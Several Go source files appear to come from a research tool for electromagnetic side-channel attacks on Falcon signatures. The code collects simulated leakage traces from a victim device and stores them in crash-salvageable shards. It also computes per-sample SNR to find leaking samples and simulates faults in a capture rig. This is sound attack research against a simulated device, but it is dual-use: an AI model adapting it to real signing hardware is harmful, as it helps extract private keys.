	}
	var all []byte
	for _, p := range w.Paths() {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, raw...)
	}
	return all
}

func TestAcquireDeterministicAcrossWorkers(t *testing.T) {
	serial := acquireTo(t, t.TempDir(), 1)
	for _, workers := range []int{2, 8} {
		if got := acquireTo(t, t.TempDir(), workers); !bytes.Equal(serial, got) {
			t.Fatalf("corpus bytes differ between workers=1 and workers=%d", workers)
		}
	}
}

func TestAcquireMatchesObservationAt(t *testing.T) {
	priv, _, err := falcon.GenerateKey(8, rng.New(41))
	if err != nil {
		t.Fatal(err)
	}
	dev := emleak.NewDevice(priv.FFTOfF(), emleak.HammingWeight{},
		emleak.Probe{Gain: 1, NoiseSigma: 1.5}, 42)
	path := filepath.Join(t.TempDir(), "traces.fdt2")
	w, err := NewWriter(path, 8, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := Acquire(context.Background(), dev, 7, 5, w, AcquireOptions{Workers: 3}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	c, err := Open(path)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	want := make([]emleak.Observation, 5)
	for i := range want {
		o, err := emleak.ObservationAt(dev.Clone(0), 7, uint64(i))
		if err != nil {
			t.Fatal(err)
		}
		want[i] = o
	}
	sameObservations(t, want, got)
}
