package tracestore

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"os"
)

// Acquisition is a long-lived physical process (the paper's campaigns are
// ~10k EM traces per component; GALACTICS-scale reruns need ~500k), so a
// crash or SIGKILL mid-campaign must not cost the whole corpus. A shard
// that dies before its footer index is written is trailer-less and Open
// rejects it; Salvage truncates such a shard back to its last CRC-valid
// chunk and rewrites a valid index + trailer, after which the corpus opens
// normally and acquisition can resume exactly where it stopped.

// SalvageReport describes what Salvage found and did to one shard file.
type SalvageReport struct {
	Path         string
	Salvaged     bool   // the file was rewritten (false: it was already valid)
	Chunks       int    // CRC-valid chunks retained
	Observations int    // observations retained
	DroppedBytes int64  // trailing bytes discarded (partial chunk, torn index)
	SHA256       string // content digest of the (possibly rewritten) shard
}

// Salvage repairs a crash-truncated v2 shard in place: it scans forward
// from the header keeping every chunk whose header is self-consistent and
// whose payload matches its CRC-32C, truncates the file at the first
// damaged byte, and writes a fresh footer index and trailer. A shard that
// already opens cleanly is left untouched. Only v2 shards are salvageable
// (v1 blobs carry no checksums to anchor a safe cut).
func Salvage(path string) (*SalvageReport, error) {
	if s, err := openShard(path); err == nil {
		if s.version != version2 {
			return nil, fmt.Errorf("tracestore: shard %s: %w: only v2 shards are salvageable", path, ErrBadFormat)
		}
		d, err := HashShard(path)
		if err != nil {
			return nil, err
		}
		return &SalvageReport{Path: path, Chunks: len(s.chunks), Observations: s.count, SHA256: d.SHA256}, nil
	}
	f, err := os.OpenFile(path, os.O_RDWR, 0)
	if err != nil {
		return nil, fmt.Errorf("tracestore: %w", err)
	}
	defer f.Close()
	st, err := f.Stat()
	if err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	n, chunks, end, err := scanChunks(f, st.Size())
	if err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	rep := &SalvageReport{
		Path:         path,
		Salvaged:     true,
		Chunks:       len(chunks),
		DroppedBytes: st.Size() - end,
	}
	mShardsSalvaged.Inc()
	for _, c := range chunks {
		rep.Observations += int(c.count)
	}
	if err := f.Truncate(end); err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if _, err := f.Seek(end, io.SeekStart); err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	idx, tr := buildIndex(chunks, end)
	if _, err := f.Write(idx); err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if _, err := f.Write(tr); err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	if err := f.Sync(); err != nil {
		return nil, fmt.Errorf("tracestore: shard %s: %w", path, err)
	}
	_ = n
	d, err := HashShard(path)
	if err != nil {
		return nil, err
	}
	rep.SHA256 = d.SHA256
	return rep, nil

}

// scanChunks walks a v2 shard forward from its header, returning every
// leading chunk that is structurally sound and CRC-valid, plus the byte
// offset where the valid prefix ends. The scan stops (without error) at
// the first torn chunk, stray index payload, or EOF — those bytes are the
// crash debris the caller truncates away.
func scanChunks(r io.ReaderAt, size int64) (n int, chunks []chunkMeta, end int64, err error) {
	var hdr [headerSize]byte
	if size < headerSize {
		return 0, nil, 0, fmt.Errorf("%w: %d bytes is shorter than a shard header", ErrBadFormat, size)
	}
	if _, err := r.ReadAt(hdr[:], 0); err != nil {
		return 0, nil, 0, fmt.Errorf("%w: unreadable header", ErrBadFormat)
	}
	if string(hdr[:4]) != magicV2 {
		return 0, nil, 0, fmt.Errorf("%w: magic %q is not a v2 shard", ErrBadFormat, hdr[:4])
	}
	if v := binary.LittleEndian.Uint32(hdr[4:]); v != version2 {
		return 0, nil, 0, fmt.Errorf("%w: v2 shard with version %d", ErrBadFormat, v)
	}
	n = int(binary.LittleEndian.Uint32(hdr[8:]))
	if !validDegree(n) {
		return 0, nil, 0, fmt.Errorf("%w: implausible degree %d", ErrBadFormat, n)
	}
	obsSize := int64(observationSize(n))
	offset := int64(headerSize)
	payload := []byte(nil)
	for {
		var ch [chunkHdrSize]byte
		if offset+chunkHdrSize > size {
			break
		}
		if _, err := r.ReadAt(ch[:], offset); err != nil {
			break
		}
		count := int64(binary.LittleEndian.Uint32(ch[0:]))
		payloadLen := int64(binary.LittleEndian.Uint32(ch[4:]))
		crc := binary.LittleEndian.Uint32(ch[8:])
		// A chunk header must be self-consistent; the index payload that a
		// crash may have half-written fails this test and ends the scan.
		if count <= 0 || count > maxCount || payloadLen != count*obsSize ||
			offset+chunkHdrSize+payloadLen > size {
			break
		}
		if int64(cap(payload)) < payloadLen {
			payload = make([]byte, payloadLen)
		}
		payload = payload[:payloadLen]
		if _, err := r.ReadAt(payload, offset+chunkHdrSize); err != nil {
			break
		}
		if crc32.Checksum(payload, castagnoli) != crc {
			break
		}
		chunks = append(chunks, chunkMeta{offset: offset, count: uint32(count), payloadLen: uint32(payloadLen)})
		offset += chunkHdrSize + payloadLen
	}
	return n, chunks, offset, nil
}

// buildIndex serializes the footer index payload and trailer for the given
// chunk set ending at indexOffset (shared by Writer.finishShard and
// Salvage so both emit bit-identical metadata).
func buildIndex(chunks []chunkMeta, indexOffset int64) (idx []byte, trailer []byte) {
	idx = make([]byte, 4+len(chunks)*16)
	binary.LittleEndian.PutUint32(idx, uint32(len(chunks)))
	var obs int64
	for i, c := range chunks {
		e := idx[4+i*16:]
		binary.LittleEndian.PutUint64(e, uint64(c.offset))
		binary.LittleEndian.PutUint32(e[8:], c.count)
		binary.LittleEndian.PutUint32(e[12:], c.payloadLen)
		obs += int64(c.count)
	}
	trailer = make([]byte, trailerSize)
	binary.LittleEndian.PutUint64(trailer[0:], uint64(indexOffset))
	binary.LittleEndian.PutUint64(trailer[8:], uint64(obs))
	binary.LittleEndian.PutUint32(trailer[16:], crc32.Checksum(idx, castagnoli))
	copy(trailer[20:], magicFooter)
	return idx, trailer
}

// ResumeWriter reopens an interrupted campaign at path for appending. It
// enumerates the shard files the given options would have produced,
// salvages the last one if it is trailer-less (a SIGKILL mid-write),
// strips its footer so appending continues at the last committed chunk,
// and returns the number of observations already durable. Passing a path
// with no existing files degrades to NewWriter with done = 0.
//
// Resume preserves the byte-identity guarantee of deterministic
// acquisition: chunk and shard boundaries depend only on (n, Options), so
// a salvaged corpus continued with the same options — and observations
// regenerated from the same (seed, index) schedule — is byte-identical to
// an uninterrupted run (tested).
func ResumeWriter(path string, n int, opts Options) (*Writer, int, error) {
	if !validDegree(n) {
		return nil, 0, fmt.Errorf("%w: invalid degree %d", ErrBadFormat, n)
	}
	probe := &Writer{path: path, opts: opts}
	var paths []string
	if opts.ShardObs <= 0 {
		if _, err := os.Stat(path); err == nil {
			paths = []string{path}
		}
	} else {
		for i := 0; ; i++ {
			p := probe.shardPath(i)
			if _, err := os.Stat(p); err != nil {
				break
			}
			paths = append(paths, p)
		}
	}
	if len(paths) == 0 {
		w, err := NewWriter(path, n, opts)
		return w, 0, err
	}

	// Every shard but the last must already be complete; the last may need
	// salvage. Deeper damage is corruption, not interruption — refuse it.
	var done int
	var bytes int64
	var priorDigests []ShardDigest
	for i, p := range paths[:len(paths)-1] {
		s, err := openShard(p)
		if err != nil {
			return nil, 0, fmt.Errorf("tracestore: resume: completed shard %d is damaged (salvage only repairs the final shard): %w", i, err)
		}
		if s.n != n {
			return nil, 0, fmt.Errorf("%w: resume: shard %s has degree %d, campaign has %d", ErrBadFormat, p, s.n, n)
		}
		done += s.count
		if st, err := os.Stat(p); err == nil {
			bytes += st.Size()
		}
		// Carry the completed shards' content digests forward so the
		// resumed writer's Manifest covers the whole campaign.
		d, err := HashShard(p)
		if err != nil {
			return nil, 0, fmt.Errorf("tracestore: resume: %w", err)
		}
		d.Obs = s.count
		priorDigests = append(priorDigests, d)
	}
	last := paths[len(paths)-1]
	s, err := openShard(last)
	if err != nil {
		if !errors.Is(err, ErrBadFormat) && !errors.Is(err, ErrChecksum) {
			return nil, 0, err
		}
		if _, err := Salvage(last); err != nil {
			// A final shard shorter than its own header holds zero durable
			// observations: the crash landed before the writer's first
			// buffer flush (os.Create ran, the 1 MiB buffered header and
			// chunks never reached the kernel). Dropping it loses nothing —
			// resume continues from the prior shards, or from scratch.
			if st, sterr := os.Stat(last); sterr == nil && st.Size() < headerSize {
				if rerr := os.Remove(last); rerr != nil {
					return nil, 0, fmt.Errorf("tracestore: resume: %w", rerr)
				}
				return ResumeWriter(path, n, opts)
			}
			return nil, 0, fmt.Errorf("tracestore: resume: %w", err)
		}
		if s, err = openShard(last); err != nil {
			return nil, 0, fmt.Errorf("tracestore: resume: shard unreadable after salvage: %w", err)
		}
	}
	if s.version != version2 {
		return nil, 0, fmt.Errorf("%w: resume: %s is a v1 blob; v1 campaigns cannot be resumed", ErrBadFormat, last)
	}
	if s.n != n {
		return nil, 0, fmt.Errorf("%w: resume: shard %s has degree %d, campaign has %d", ErrBadFormat, last, s.n, n)
	}
	done += s.count

	// Reopen the final shard for append: drop its index + trailer and seat
	// the writer at the end of the last committed chunk.
	indexOffset := int64(headerSize)
	if len(s.chunks) > 0 {
		c := s.chunks[len(s.chunks)-1]
		indexOffset = c.offset + chunkHdrSize + int64(c.payloadLen)
	}
	w, err := reopenForAppend(path, n, opts, paths, s.chunks, indexOffset)
	if err != nil {
		return nil, 0, err
	}
	w.digests = priorDigests
	w.total = int64(done)
	w.bytes = bytes + indexOffset
	return w, done, nil
}
