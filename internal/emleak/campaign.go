package emleak

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math/bits"

	"falcondown/internal/codec"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// Campaign draws fresh adversary-known inputs (hash-to-point outputs of
// random messages, exactly as a signing oracle would produce) and collects
// measurements from a Device. The attack is known-plaintext: the adversary
// needs no control over the hashed values, matching the paper's threat
// model.
type Campaign struct {
	dev *Device
	rnd *rng.Xoshiro
	ctr uint64
}

// NewCampaign returns a campaign with a deterministic message stream.
func NewCampaign(dev *Device, seed uint64) *Campaign {
	return &Campaign{dev: dev, rnd: rng.New(seed)}
}

// Next produces one observation: a fresh salted message is hashed to a
// point c, transformed to the FFT domain, and multiplied against the
// device secret while the probe listens.
func (c *Campaign) Next() (Observation, error) {
	salt := make([]byte, codec.SaltLen)
	c.rnd.Bytes(salt)
	c.ctr++
	msg := binary.LittleEndian.AppendUint64(nil, c.ctr)
	point := codec.HashToPoint(salt, msg, c.dev.N())
	return c.dev.ObserveMul(fft.FFTUint16Centered(point))
}

// Collect gathers count observations.
func (c *Campaign) Collect(count int) ([]Observation, error) {
	obs := make([]Observation, 0, count)
	for i := 0; i < count; i++ {
		o, err := c.Next()
		if err != nil {
			return nil, err
		}
		obs = append(obs, o)
	}
	return obs, nil
}

// Serialization format (little endian):
//
//	magic "FDTR" | version u32 | n u32 | count u32
//	per observation: n/2 × (re u64, im u64) | n/2·SamplesPerCoeff × f64
const (
	traceMagic   = "FDTR"
	traceVersion = 1
)

var errBadTraceFile = errors.New("emleak: malformed trace file")

// WriteObservations streams a campaign to w.
func WriteObservations(w io.Writer, n int, obs []Observation) error {
	bw := bufio.NewWriter(w)
	if _, err := bw.WriteString(traceMagic); err != nil {
		return err
	}
	hdr := []uint32{traceVersion, uint32(n), uint32(len(obs))}
	for _, v := range hdr {
		if err := binary.Write(bw, binary.LittleEndian, v); err != nil {
			return err
		}
	}
	for i, o := range obs {
		if len(o.CFFT) != n/2 || len(o.Trace.Samples) != n/2*SamplesPerCoeff {
			return fmt.Errorf("emleak: observation %d has inconsistent shape", i)
		}
		for _, z := range o.CFFT {
			if err := binary.Write(bw, binary.LittleEndian, uint64(z.Re)); err != nil {
				return err
			}
			if err := binary.Write(bw, binary.LittleEndian, uint64(z.Im)); err != nil {
				return err
			}
		}
		if err := binary.Write(bw, binary.LittleEndian, o.Trace.Samples); err != nil {
			return err
		}
	}
	return bw.Flush()
}

// ReadObservations loads a trace file written by WriteObservations.
func ReadObservations(r io.Reader) (n int, obs []Observation, err error) {
	br := bufio.NewReader(r)
	magic := make([]byte, 4)
	if _, err := io.ReadFull(br, magic); err != nil || string(magic) != traceMagic {
		return 0, nil, errBadTraceFile
	}
	var hdr [3]uint32
	for i := range hdr {
		if err := binary.Read(br, binary.LittleEndian, &hdr[i]); err != nil {
			return 0, nil, errBadTraceFile
		}
	}
	if hdr[0] != traceVersion {
		return 0, nil, fmt.Errorf("%w: version %d", errBadTraceFile, hdr[0])
	}
	n = int(hdr[1])
	count := int(hdr[2])
	if n < 2 || n > 4096 || n%2 != 0 || count < 0 || count > 1<<24 {
		return 0, nil, errBadTraceFile
	}
	obs = make([]Observation, count)
	for i := range obs {
		cf := make([]fft.Cplx, n/2)
		for k := range cf {
			var re, im uint64
			if err := binary.Read(br, binary.LittleEndian, &re); err != nil {
				return 0, nil, errBadTraceFile
			}
			if err := binary.Read(br, binary.LittleEndian, &im); err != nil {
				return 0, nil, errBadTraceFile
			}
			cf[k] = fft.Cplx{Re: fprFromBits(re), Im: fprFromBits(im)}
		}
		samples := make([]float64, n/2*SamplesPerCoeff)
		if err := binary.Read(br, binary.LittleEndian, samples); err != nil {
			return 0, nil, errBadTraceFile
		}
		obs[i] = Observation{CFFT: cf, Trace: Trace{Samples: samples}}
	}
	return n, obs, nil
}

// CropToCoefficient reduces an observation to a single coefficient's
// window: the known input coefficient and its SamplesPerCoeff samples.
// Single-coefficient experiments use it to keep 10k-trace campaigns small.
func CropToCoefficient(o Observation, coeff int) Observation {
	return Observation{
		CFFT: []fft.Cplx{o.CFFT[coeff]},
		Trace: Trace{Samples: append([]float64(nil),
			o.Trace.Samples[coeff*SamplesPerCoeff:(coeff+1)*SamplesPerCoeff]...)},
	}
}

// CollectCoefficient gathers count observations cropped to one
// coefficient window.
func (c *Campaign) CollectCoefficient(count, coeff int) ([]Observation, error) {
	obs := make([]Observation, 0, count)
	for i := 0; i < count; i++ {
		o, err := c.Next()
		if err != nil {
			return nil, err
		}
		obs = append(obs, CropToCoefficient(o, coeff))
	}
	return obs, nil
}

// SNR estimates the per-sample signal-to-noise ratio of a campaign:
// Var(E[t | class]) / E[Var(t | class)], with the class taken as the
// noiseless Hamming-weight leakage recomputed from the known inputs and a
// candidate secret. It is the standard first-order leakage metric used to
// locate the most informative samples before mounting a CPA.
func SNR(obs []Observation, secret []fft.Cplx) ([]float64, error) {
	if len(obs) == 0 {
		return nil, errors.New("emleak: no observations")
	}
	nSamples := len(obs[0].Trace.Samples)
	type acc struct {
		n          map[int]int
		sum, sumSq map[int]float64
	}
	accs := make([]acc, nSamples)
	for j := range accs {
		accs[j] = acc{n: map[int]int{}, sum: map[int]float64{}, sumSq: map[int]float64{}}
	}
	var rec fpr.SliceRecorder
	for _, o := range obs {
		rec.Reset()
		for k := range o.CFFT {
			fft.MulTraced(o.CFFT[k], secret[k], &rec)
		}
		if rec.Len() != nSamples {
			return nil, fmt.Errorf("emleak: replay produced %d micro-ops, want %d", rec.Len(), nSamples)
		}
		for j := 0; j < nSamples; j++ {
			cls := bits.OnesCount64(rec.Values[j])
			t := o.Trace.Samples[j]
			accs[j].n[cls]++
			accs[j].sum[cls] += t
			accs[j].sumSq[cls] += t * t
		}
	}
	out := make([]float64, nSamples)
	for j, a := range accs {
		var total, totalN float64
		for cls, n := range a.n {
			total += a.sum[cls]
			totalN += float64(n)
			_ = cls
		}
		grand := total / totalN
		var between, within float64
		for cls, n := range a.n {
			fn := float64(n)
			m := a.sum[cls] / fn
			v := a.sumSq[cls]/fn - m*m
			between += fn / totalN * (m - grand) * (m - grand)
			within += fn / totalN * v
		}
		if within > 0 {
			out[j] = between / within
		}
	}
	return out, nil
}
