package emleak

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/bits"

	"falcondown/internal/codec"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/rng"
)

// Campaign draws fresh adversary-known inputs (hash-to-point outputs of
// random messages, exactly as a signing oracle would produce) and collects
// measurements from a Device. The attack is known-plaintext: the adversary
// needs no control over the hashed values, matching the paper's threat
// model.
type Campaign struct {
	dev *Device
	rnd *rng.Xoshiro
	ctr uint64
}

// NewCampaign returns a campaign with a deterministic message stream.
func NewCampaign(dev *Device, seed uint64) *Campaign {
	return &Campaign{dev: dev, rnd: rng.New(seed)}
}

// Next produces one observation: a fresh salted message is hashed to a
// point c, transformed to the FFT domain, and multiplied against the
// device secret while the probe listens.
func (c *Campaign) Next() (Observation, error) {
	salt := make([]byte, codec.SaltLen)
	c.rnd.Bytes(salt)
	c.ctr++
	msg := binary.LittleEndian.AppendUint64(nil, c.ctr)
	point := codec.HashToPoint(salt, msg, c.dev.N())
	return c.dev.ObserveMul(fft.FFTUint16Centered(point))
}

// Collect gathers count observations.
func (c *Campaign) Collect(count int) ([]Observation, error) {
	obs := make([]Observation, 0, count)
	for i := 0; i < count; i++ {
		o, err := c.Next()
		if err != nil {
			return nil, err
		}
		obs = append(obs, o)
	}
	return obs, nil
}

// CollectContext gathers count observations, checking ctx between
// measurements so long in-memory campaigns are cancellable like the
// streamed acquisition path. On cancellation the observations collected
// so far are returned alongside ctx's error.
func (c *Campaign) CollectContext(ctx context.Context, count int) ([]Observation, error) {
	obs := make([]Observation, 0, count)
	for i := 0; i < count; i++ {
		if err := ctx.Err(); err != nil {
			return obs, err
		}
		o, err := c.Next()
		if err != nil {
			return obs, err
		}
		obs = append(obs, o)
	}
	return obs, nil
}

// ObservationAt deterministically produces observation idx of the indexed
// campaign (dev, seed): the salt stream, the message counter and the
// probe-noise stream are all derived from (seed, idx) alone, never from
// per-worker state. Parallel acquisition (tracestore.Acquire) partitions
// indices across goroutines and still yields a byte-identical corpus for
// any worker count. The indexed stream is a distinct campaign from the
// sequential Campaign stream under the same seed (the salt and noise
// substreams differ), but has identical statistics.
func ObservationAt(dev *Device, seed, idx uint64) (Observation, error) {
	r := rng.New(rng.DeriveSeed(seed, 2*idx))
	salt := make([]byte, codec.SaltLen)
	r.Bytes(salt)
	msg := binary.LittleEndian.AppendUint64(nil, idx+1)
	point := codec.HashToPoint(salt, msg, dev.N())
	dev.SeedNoise(rng.DeriveSeed(seed, 2*idx+1))
	return dev.ObserveMul(fft.FFTUint16Centered(point))
}

// CropToCoefficient reduces an observation to a single coefficient's
// window: the known input coefficient and its SamplesPerCoeff samples.
// Single-coefficient experiments use it to keep 10k-trace campaigns small.
func CropToCoefficient(o Observation, coeff int) Observation {
	return Observation{
		CFFT: []fft.Cplx{o.CFFT[coeff]},
		Trace: Trace{Samples: append([]float64(nil),
			o.Trace.Samples[coeff*SamplesPerCoeff:(coeff+1)*SamplesPerCoeff]...)},
	}
}

// CollectCoefficient gathers count observations cropped to one
// coefficient window.
func (c *Campaign) CollectCoefficient(count, coeff int) ([]Observation, error) {
	obs := make([]Observation, 0, count)
	for i := 0; i < count; i++ {
		o, err := c.Next()
		if err != nil {
			return nil, err
		}
		obs = append(obs, CropToCoefficient(o, coeff))
	}
	return obs, nil
}

// SNR estimates the per-sample signal-to-noise ratio of a campaign:
// Var(E[t | class]) / E[Var(t | class)], with the class taken as the
// noiseless Hamming-weight leakage recomputed from the known inputs and a
// candidate secret. It is the standard first-order leakage metric used to
// locate the most informative samples before mounting a CPA.
func SNR(obs []Observation, secret []fft.Cplx) ([]float64, error) {
	if len(obs) == 0 {
		return nil, errors.New("emleak: no observations")
	}
	nSamples := len(obs[0].Trace.Samples)
	// Hamming-weight classes of a 64-bit value are bounded 0..64, so the
	// per-sample accumulators are fixed arrays rather than maps.
	const nClasses = 65
	type acc struct {
		n          [nClasses]int
		sum, sumSq [nClasses]float64
	}
	accs := make([]acc, nSamples)
	var rec fpr.SliceRecorder
	for _, o := range obs {
		rec.Reset()
		for k := range o.CFFT {
			fft.MulTraced(o.CFFT[k], secret[k], &rec)
		}
		if rec.Len() != nSamples {
			return nil, fmt.Errorf("emleak: replay produced %d micro-ops, want %d", rec.Len(), nSamples)
		}
		for j := 0; j < nSamples; j++ {
			cls := bits.OnesCount64(rec.Values[j])
			t := o.Trace.Samples[j]
			accs[j].n[cls]++
			accs[j].sum[cls] += t
			accs[j].sumSq[cls] += t * t
		}
	}
	out := make([]float64, nSamples)
	for j := range accs {
		a := &accs[j]
		var total, totalN float64
		for cls := 0; cls < nClasses; cls++ {
			total += a.sum[cls]
			totalN += float64(a.n[cls])
		}
		grand := total / totalN
		var between, within float64
		for cls := 0; cls < nClasses; cls++ {
			if a.n[cls] == 0 {
				continue
			}
			fn := float64(a.n[cls])
			m := a.sum[cls] / fn
			v := a.sumSq[cls]/fn - m*m
			between += fn / totalN * (m - grand) * (m - grand)
			within += fn / totalN * v
		}
		if within > 0 {
			out[j] = between / within
		}
	}
	return out, nil
}
