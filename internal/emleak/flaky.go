package emleak

import (
	"context"
	"errors"
	"math"
	"sync"
	"time"

	"falcondown/internal/rng"
)

// ErrTransient marks a measurement failure that is worth retrying: the
// device dropped a trigger, the scope armed late, the capture bus timed
// out. It mirrors tracestore.ErrTransient on the read side; the
// supervision layer retries it with backoff instead of failing the
// campaign.
var ErrTransient = errors.New("emleak: transient measurement failure")

// Clock abstracts time for the acquisition path so supervisor tests can
// run on a virtual clock with zero wall-clock sleeps. WallClock is the
// production implementation; faultinject provides the deterministic test
// double.
type Clock interface {
	// Now returns the current time.
	Now() time.Time
	// After returns a channel that delivers the time once d has elapsed.
	After(d time.Duration) <-chan time.Time
	// Sleep blocks for d or until ctx is cancelled, returning ctx.Err()
	// in the latter case.
	Sleep(ctx context.Context, d time.Duration) error
}

// WallClock is the real-time Clock used outside tests.
type WallClock struct{}

// Now implements Clock.
func (WallClock) Now() time.Time { return time.Now() }

// After implements Clock.
func (WallClock) After(d time.Duration) <-chan time.Time { return time.After(d) }

// Sleep implements Clock.
func (WallClock) Sleep(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Distortion parameterizes the misbehavior of a FlakyDevice. Every field
// is a physical failure mode observed on real EM capture rigs; all of
// them are deterministic functions of (Seed, observation index), so a
// flaky campaign is exactly as reproducible as a clean one.
type Distortion struct {
	// Seed derives the per-observation misbehavior schedule.
	Seed uint64

	// Latency is the fixed per-observation measurement latency; Jitter
	// adds a uniformly random extra in [0, Jitter).
	Latency time.Duration
	Jitter  time.Duration

	// HangProb is the per-observation probability of an indefinite hang:
	// the measurement never completes and only returns when the caller's
	// context is cancelled. HangProb = 1 models a wedged device.
	HangProb float64

	// TransientProb is the per-observation probability that the first
	// TransientTries attempts fail with ErrTransient before the
	// measurement succeeds (a dropped trigger that a retry fixes).
	// TransientTries <= 0 defaults to 1.
	TransientProb  float64
	TransientTries int

	// DesyncProb shifts the trace by a uniformly random ±1..DesyncShift
	// samples (edge samples replicated) — a late or early trigger.
	// DesyncShift <= 0 defaults to 1.
	DesyncProb  float64
	DesyncShift int

	// GlitchProb saturates GlitchSamples consecutive samples (0 = the
	// whole trace) to ±GlitchLevel — probe contact loss or amplifier
	// clipping. GlitchLevel <= 0 defaults to 1000.
	GlitchProb    float64
	GlitchLevel   float64
	GlitchSamples int

	// DriftAmp applies a slow sinusoidal gain drift of amplitude
	// DriftAmp across the campaign with period DriftPeriod observations
	// (temperature drift of the analog front end). DriftPeriod <= 0
	// defaults to 1000.
	DriftAmp    float64
	DriftPeriod int
}

// hangStep is how long a hung FlakyDevice sleeps between context checks.
// Each sleep also advances a virtual clock's pending timers, so a hung
// device drives other waiters' deadlines forward instead of deadlocking
// a virtual-time test.
const hangStep = 250 * time.Millisecond

// FlakyDevice wraps a victim Device with a deterministic misbehavior
// schedule. Unlike the raw Device it is safe for concurrent use: every
// Measure derives all randomness from (Distortion.Seed, idx) and clones
// the underlying device state it needs.
type FlakyDevice struct {
	dev   *Device
	dist  Distortion
	clock Clock

	mu    sync.Mutex
	tries map[uint64]int // transient-failure attempts seen per index
}

// NewFlakyDevice wraps dev with the given distortion model. A nil clock
// defaults to WallClock.
func NewFlakyDevice(dev *Device, dist Distortion, clock Clock) *FlakyDevice {
	if clock == nil {
		clock = WallClock{}
	}
	if dist.TransientTries <= 0 {
		dist.TransientTries = 1
	}
	if dist.DesyncShift <= 0 {
		dist.DesyncShift = 1
	}
	if dist.GlitchLevel <= 0 {
		dist.GlitchLevel = 1000
	}
	if dist.DriftPeriod <= 0 {
		dist.DriftPeriod = 1000
	}
	return &FlakyDevice{dev: dev, dist: dist, clock: clock, tries: make(map[uint64]int)}
}

// N returns the wrapped device's ring degree.
func (f *FlakyDevice) N() int { return f.dev.N() }

// Measure produces observation idx of the indexed campaign (seed, idx)
// through the distortion model. The observation content depends only on
// (seed, idx) — identical to emleak.ObservationAt plus the scheduled
// distortions — never on timing, attempt count or goroutine interleaving,
// so supervised acquisition keeps the byte-identical-corpus contract.
func (f *FlakyDevice) Measure(ctx context.Context, seed, idx uint64) (Observation, error) {
	// The schedule draw order is fixed: hang, transient, glitch, desync,
	// jitter. Consuming the draws in this order on every call keeps the
	// schedule stable regardless of which distortions are enabled.
	r := rng.New(rng.DeriveSeed(f.dist.Seed, idx))
	hang := r.Float64() < f.dist.HangProb
	transient := r.Float64() < f.dist.TransientProb
	glitch := r.Float64() < f.dist.GlitchProb
	desync := r.Float64() < f.dist.DesyncProb
	var shift int
	if desync {
		mag := 1 + r.Intn(f.dist.DesyncShift)
		if r.Intn(2) == 0 {
			shift = -mag
		} else {
			shift = mag
		}
	}
	var glitchStart int
	if glitch && f.dist.GlitchSamples > 0 {
		glitchStart = r.Intn(maxInt(1, f.dev.N()/2*SamplesPerCoeff-f.dist.GlitchSamples+1))
	}
	jitter := time.Duration(0)
	if f.dist.Jitter > 0 {
		jitter = time.Duration(r.Float64() * float64(f.dist.Jitter))
	}

	if hang {
		// A wedged device: never completes, only honors cancellation.
		for {
			if err := f.clock.Sleep(ctx, hangStep); err != nil {
				return Observation{}, err
			}
		}
	}
	if d := f.dist.Latency + jitter; d > 0 {
		if err := f.clock.Sleep(ctx, d); err != nil {
			return Observation{}, err
		}
	}
	if transient {
		f.mu.Lock()
		seen := f.tries[idx]
		if seen < f.dist.TransientTries {
			f.tries[idx] = seen + 1
			f.mu.Unlock()
			return Observation{}, ErrTransient
		}
		f.mu.Unlock()
	}

	o, err := ObservationAt(f.dev.Clone(0), seed, idx)
	if err != nil {
		return Observation{}, err
	}
	s := o.Trace.Samples
	if shift != 0 {
		desyncShift(s, shift)
	}
	if glitch {
		lo, hi := 0, len(s)
		if f.dist.GlitchSamples > 0 {
			lo = glitchStart
			hi = minInt(len(s), lo+f.dist.GlitchSamples)
		}
		for i := lo; i < hi; i++ {
			if s[i] >= 0 {
				s[i] = f.dist.GlitchLevel
			} else {
				s[i] = -f.dist.GlitchLevel
			}
		}
	}
	if f.dist.DriftAmp != 0 {
		gain := 1 + f.dist.DriftAmp*math.Sin(2*math.Pi*float64(idx)/float64(f.dist.DriftPeriod))
		for i := range s {
			s[i] *= gain
		}
	}
	return o, nil
}

// desyncShift shifts samples by k in place, replicating the edge sample
// into the uncovered positions — what a mis-triggered scope capture looks
// like.
func desyncShift(s []float64, k int) {
	n := len(s)
	if k == 0 || n == 0 {
		return
	}
	if k > 0 { // trace starts late: samples move right
		copy(s[k:], s[:n-k])
		for i := 0; i < k; i++ {
			s[i] = s[k]
		}
	} else { // trace starts early: samples move left
		k = -k
		copy(s[:n-k], s[k:])
		for i := n - k; i < n; i++ {
			s[i] = s[n-k-1]
		}
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
