package emleak

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"falcondown/internal/rng"
)

// ParseFlakySpec decodes a "DEV:KIND[=PARAM],..." misbehavior spec into
// per-device distortions. Kinds: hang, glitch[=prob], desync[=prob],
// transient[=prob] and latency[=duration]. Repeating a device index
// composes its kinds. Every device's fault schedule derives from
// (seed, device), so the same spec replays the identical campaign.
//
// The format is shared by cmd/tracegen's -flaky flag and campaign specs
// submitted to the attack-campaign server; parsing lives here so both
// accept exactly the same dialect.
func ParseFlakySpec(spec string, devices int, seed uint64) (map[int]Distortion, error) {
